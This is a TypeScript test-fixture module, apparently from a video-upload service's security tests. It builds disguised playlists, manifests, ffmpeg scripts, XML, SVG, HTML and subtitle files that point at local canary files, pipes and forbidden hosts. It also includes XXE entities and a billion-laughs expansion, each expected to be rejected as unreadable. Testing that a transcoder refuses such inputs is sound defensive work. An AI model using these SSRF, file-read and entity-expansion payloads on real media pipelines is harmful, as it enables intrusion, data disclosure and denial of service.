import type { IncomingMessage, ServerResponse } from 'node:http'
import type { CanaryFiles } from './canaries.ts'

/** A file that a malicious partner submits as a video. */
export interface HostileFile {
  /** The name in its address; the extension may be wrong. */
  readonly name: string
  readonly kind: HostileKind
  /** Its bytes, or a server that misbehaves. */
  readonly body: Buffer | Serve
  /** The allowed error codes. */
  readonly codes: readonly string[]
}

export type HostileKind =
  | 'playlist'
  | 'script'
  | 'manifest'
  | 'list of links'
  | 'document'
  | 'subtitles'
  | 'no media'
  | 'name'
  | 'damaged'
  | 'no moving picture'
  | 'large picture'
  | 'long'
  | 'server'

export type Serve = (request: IncomingMessage, response: ServerResponse) => void

/** Forbidden targets that lists and scripts name. */
export interface Bait extends Pick<CanaryFiles, 'pipe' | 'video' | 'playlist'> {
  /** Servers: one that is not allowed, and one at another port of the allowed host. */
  readonly forbiddenHosts: readonly [string, string]
}

/** Text files by name. */
const texts = (
  kind: HostileKind,
  named: Readonly<Record<string, string>>,
  codes: readonly string[] = ['media.unreadable'],
): HostileFile[] =>
  Object.entries(named).map(([name, text]) => ({ name, kind, body: Buffer.from(text), codes }))

/** Files of text that name the bait. Their names are unique within a kind. */
export const hostileTexts = (bait: Bait): HostileFile[] => [
  ...playlists(bait),
  ...scripts(bait),
  ...manifests(bait),
  ...listsOfLinks(bait),
  ...documents(bait),
  ...subtitles(bait),
]

/** Media and multivariant playlists, with wrong extensions and with every tag that references something. */
function playlists({
  pipe,
  video,
  playlist,
  forbiddenHosts: [unknownHost, otherPortHost],
}: Bait): HostileFile[] {
  const segment = `#EXTINF:2,\nfile://${video}`
  return texts('playlist', {
    'segment-file.m3u8': media(`#EXTINF:2,\nfile://${pipe}`),
    'segment-video.mp4': media(segment),
    'segment-path.ts': media(`#EXTINF:2,\n${video}`),
    'segment-upwards.m3u8': media(`#EXTINF:2,\n${'../'.repeat(20)}${video.slice(1)}`),
    'segment-http.mov': media(`#EXTINF:2,\nhttp://${unknownHost}/a.ts`),
    'segment-other-port.m3u8': media(`#EXTINF:2,\nhttp://${otherPortHost}/a.ts`),
    'segment-https.mkv': media(`#EXTINF:2,\nhttps://${unknownHost}/a.ts`),
    'segment-tcp.m3u8': media(`#EXTINF:2,\ntcp://${unknownHost}`),
    'segment-ftp.m3u8': media(`#EXTINF:2,\nftp://${unknownHost}/a.ts`),
    'segment-concat.m3u8': media(`#EXTINF:2,\nconcat:http://${unknownHost}/a?|file://${pipe}`),
    'segment-subfile.m3u8': media(`#EXTINF:2,\nsubfile,,start,0,end,1000,,:${pipe}`),
    'segment-crypto.m3u8': media(`#EXTINF:2,\ncrypto:file://${pipe}`),
    'segment-range.m3u8': media(`#EXT-X-BYTERANGE:188@0\n#EXTINF:2,\nfile://${pipe}`),
    'segment-carriage.m3u8': media(`#EXTINF:2,\nfile://${pipe}`).replaceAll('\n', '\r\n'),
    'live.m3u8': media(`#EXTINF:2,\nhttp://${otherPortHost}/a.ts`).replace('#EXT-X-ENDLIST\n', ''),
    'key-file.m3u8': media(`#EXT-X-KEY:METHOD=AES-128,URI="file://${pipe}"\n${segment}`),
    'key-http.mp4': media(`#EXT-X-KEY:METHOD=AES-128,URI="http://${unknownHost}/key"\n${segment}`),
    'key-sample.m3u8': media(`#EXT-X-KEY:METHOD=SAMPLE-AES,URI="http://${otherPortHost}/key"\n${segment}`),
    'map-file.m3u8': media(`#EXT-X-MAP:URI="file://${pipe}"\n${segment}`),
    'map-http.mp4': media(`#EXT-X-MAP:URI="http://${unknownHost}/init.mp4"\n${segment}`),
    'nested-file.m3u8': multivariant(`file://${playlist}`),
    'nested-http.mp4': multivariant(`http://${unknownHost}/main.m3u8`),
    'nested-other-port.ts': multivariant(`http://${otherPortHost}/main.m3u8`),
    'sound-file.m3u8': `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="file://${playlist}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\nfile://${playlist}\n`,
    'frames-http.m3u8': `#EXTM3U\n#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI="http://${unknownHost}/i.m3u8"\n`,
  })
}

const media = (lines: string): string =>
  `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n${lines}\n#EXT-X-ENDLIST\n`

const multivariant = (address: string): string =>
  `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000,RESOLUTION=160x90\n${address}\n`

/** Scripts that ffmpeg or similar programs would execute. */
const scripts = ({ pipe, video, forbiddenHosts: [unknownHost, otherPortHost] }: Bait): HostileFile[] =>
  texts('script', {
    'concat.ffconcat': `ffconcat version 1.0\nfile '${pipe}'\n`,
    'concat-video.mp4': `ffconcat version 1.0\nfile 'file://${video}'\n`,
    'concat-http.mp4': `ffconcat version 1.0\nfile http://${unknownHost}/a.mp4\n`,
    'concat-other-port.mov': `ffconcat version 1.0\nfile http://${otherPortHost}/a.mp4\n`,
    'concat-options.txt': `ffconcat version 1.0\nfile '${video}'\noption safe 0\noption protocol_whitelist file,http,tcp\n`,
    'concat-plain.mp4': `file '${pipe}'\nfile '${video}'\n`,
    'movie.lavfi': `movie=${video}[out0];amovie=${pipe}[out1]`,
    'graph.mp4': `movie=filename=http\\\\://${unknownHost}/a.mp4,split[a][b];[a]nullsink`,
    'settings.ffmetadata': `;FFMETADATA1\ntitle=a\n[STREAM]\nfile=${pipe}\n`,
    'preset.ffpreset': `i=${pipe}\nvcodec=copy\n`,
    'script.avs': `AviSource("${pipe}")\nDirectShowSource("http://${unknownHost}/a")\n`,
    'script.vpy': `import vapoursynth\nopen('${pipe}').read()\n`,
    'options.mp4': `-i file:${pipe} -f null -\n`,
  })

/** Manifests of several standards. */
const manifests = ({ pipe, video, forbiddenHosts: [unknownHost, otherPortHost] }: Bait): HostileFile[] =>
  texts('manifest', {
    'base-file.mpd': dash(`<BaseURL>file://${video}</BaseURL>`),
    'base-pipe.mp4': dash(`<BaseURL>file://${pipe}</BaseURL>`),
    'base-http.mpd': dash(`<BaseURL>http://${unknownHost}/a.mp4</BaseURL>`),
    'template.mpd': dash(
      `<SegmentTemplate duration="2" initialization="http://${otherPortHost}/init.mp4" media="http://${otherPortHost}/$Number$.m4s"/>`,
    ),
    'entity.mpd': `<!DOCTYPE MPD [<!ENTITY e SYSTEM "file://${pipe}">]>${dash('<BaseURL>&e;</BaseURL>')}`,
    'link.mpd': dash(
      `<AdaptationSet xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://${unknownHost}/set"/>`,
    ),
    'session.sdp': sdp('video', unknownHost.split(':')[1] ?? ''),
    'session.mp4': sdp('audio', otherPortHost.split(':')[1] ?? ''),
    'composition.xml': `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><AssetMap>file://${pipe}</AssetMap></CompositionPlaylist>`,
    'smooth.ism': `<?xml version="1.0"?><SmoothStreamingMedia Duration="20000000"><StreamIndex Type="video" Url="http://${unknownHost}/a"/></SmoothStreamingMedia>`,
  })

const dash = (inner: string): string =>
  `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" mediaPresentationDuration="PT2S" minBufferTime="PT1S"><Period><AdaptationSet contentType="video" mimeType="video/mp4"><Representation id="1" bandwidth="100000" width="160" height="90" mimeType="video/mp4">${inner}</Representation></AdaptationSet></Period></MPD>\n`

const sdp = (what: string, port: string): string =>
  `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=a\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=${what} ${port} RTP/AVP 33\r\na=rtpmap:33 MP2T/90000\r\n`

/** Playlists of older players. */
const listsOfLinks = ({ pipe, video, forbiddenHosts: [unknownHost, otherPortHost] }: Bait): HostileFile[] =>
  texts('list of links', {
    'list.asx': `<asx version="3.0"><entry><ref href="http://${unknownHost}/a.wmv"/></entry></asx>`,
    'list.pls': `[playlist]\nNumberOfEntries=1\nFile1=file://${pipe}\nVersion=2\n`,
    'list.smil': `<smil><body><video src="file://${video}"/><video src="http://${otherPortHost}/a"/></body></smil>`,
    'list.xspf': `<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://${pipe}</location></track></trackList></playlist>`,
    'list.m3u': `${video}\nhttp://${unknownHost}/a.mp4\n`,
    'list.ram': `rtsp://${unknownHost}/a.rm\nfile://${pipe}\n`,
    'list.qtl': `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="http://${unknownHost}/a.mov"/>`,
    'reference.wmv': `[Reference]\r\nRef1=http://${otherPortHost}/a?MSWMExt=.asf\r\n`,
    'rtsp.mov': `RTSPtext\r\nrtsp://${unknownHost}/a\r\n`,
  })

const documents = ({ pipe, forbiddenHosts: [unknownHost, otherPortHost] }: Bait): HostileFile[] =>
  texts('document', {
    'entity.xml': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file://${pipe}">]><a>&e;</a>`,
    'entity-http.xml': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % e SYSTEM "http://${unknownHost}/a.dtd"> %e;]><a/>`,
    'laughs.xml': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">${laughs()}]><a>&j;</a>`,
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${pipe}"/><image href="http://${unknownHost}/a.png"/></svg>`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://${pipe}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
    'page.html': `<!doctype html><meta http-equiv="refresh" content="0;url=http://${otherPortHost}/"><video src="http://${unknownHost}/a.mp4">`,
    'page.mp4': `<html><body><iframe src="file://${pipe}"></iframe></body></html>`,
  })

const laughs = (): string =>
  [...'bcdefghij'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')

const subtitles = ({ pipe }: Bait): HostileFile[] =>
  texts('subtitles', {
    'text.srt': `1\n00:00:00,000 --> 00:00:02,000\n<img src="file://${pipe}">\n\n`,
    'text.ass': `[Script Info]\nScriptType: v4.00+\n\n[Events]\nFormat: Layer, Start, End, Text\nDialogue: 0,0:00:00.00,0:00:02.00,{\\fn${pipe}}a\n`,
    'text.vtt': `WEBVTT\n\nSTYLE\n::cue { background: url(file://${pipe}) }\n\n00:00.000 --> 00:02.000\na\n`,
    'index.idx': `# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
    'text.mp4': `{0}{60}file://${pipe}\n{61}{90}b\n`,
  })
